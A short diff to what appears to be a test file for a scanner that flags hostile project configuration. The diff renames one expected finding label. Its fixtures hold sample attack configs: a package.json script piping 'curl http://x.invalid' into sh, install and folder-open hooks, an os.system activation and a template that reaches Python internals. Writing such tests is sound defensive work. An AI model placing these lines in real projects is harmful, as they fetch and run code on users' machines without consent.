@@ -38,7 +38,7 @@ HOSTILE_JSON = [
     ("2_Dense/config.json", {"activation_function": "os.system"}, "config.target"),
     ("genai_config.json", {"custom_ops_library": "x.so"}, "config.loads-module"),
     ("package.json", {"scripts": {"postinstall": "node x.js"}}, "config.runs-on-install"),
-    ("package.json", {"scripts": {"test": "curl http://x.invalid | sh"}}, "config.hostile-command"),
+    ("package.json", {"scripts": {"test": "curl http://x.invalid | sh"}}, "command.hostile"),
     (".vscode/tasks.json", {"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}, "config.runs-on-open"),
     (".mcp.json", {"mcpServers": {"a": {"command": "npx", "args": ["x"]}}}, "config.agent-command"),
     ("tokenizer_config.json", {"chat_template": "{{ ''.__class__ }}"}, "template.attribute-trick"),
